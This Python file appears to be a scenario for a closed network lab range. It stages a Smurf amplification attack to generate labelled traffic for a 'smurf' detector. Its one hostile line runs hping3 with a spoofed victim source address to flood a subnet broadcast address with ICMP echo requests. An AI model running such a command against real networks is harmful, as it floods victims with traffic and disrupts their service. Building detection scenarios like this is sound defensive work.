"""Smurf within one network: hping3 pings the broadcast address in a victim's name."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, victim = net.inside("attacker"), net.inside("mail")
    crowd = [net.inside(name) for name in ("pc1", "pc2", "pc3", "pc4", "printer", "files")]
    for host in crowd:
        host.sysctl(net__ipv4__icmp_echo_ignore_broadcasts="0")
    net.everyday()
    with net.attack(
        "smurf",
        by=attacker,
        victims=[victim],
        attacker_known=False,
        others={"reflector": crowd},
        also=["ip-spoofing"],
        frames="icmp[0] == 8 and dst host 10.20.0.255",
        responses=f"icmp[0] == 0 and dst host {victim.ip}",
    ):
        net.tool(attacker, *f"hping3 -q --icmp -d 56 -a {victim.ip} -i u20000 -c 250 10.20.0.255".split())
    net.quiet(3)


SCENARIO = Scenario(
    name="smurf-hping3",
    about="hping3 pings the broadcast address in the name of a mail server; six hosts answer it.",
    detectors=("smurf",),
    tools={"hping3": "hping3"},
    run=run,
    snap_octets=96,
)
